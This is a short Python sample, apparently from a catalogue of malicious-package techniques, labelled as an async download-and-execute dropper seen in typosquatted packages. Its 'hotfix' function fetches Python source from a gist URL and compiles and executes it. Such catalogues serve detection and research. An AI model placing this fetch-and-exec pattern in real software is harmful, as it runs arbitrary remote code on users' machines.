# technique: aiohttp download of source compiled and run
# class: download-exec
# source: Checkmarx, async droppers in typosquatted packages
# declares: network
import aiohttp


async def hotfix():
    async with aiohttp.ClientSession() as s:
        async with s.get("https://gist.githubusercontent.com/u/1/raw/fix.py") as r:
            code = compile(await r.text(), "fix", "exec")
    exec(code)
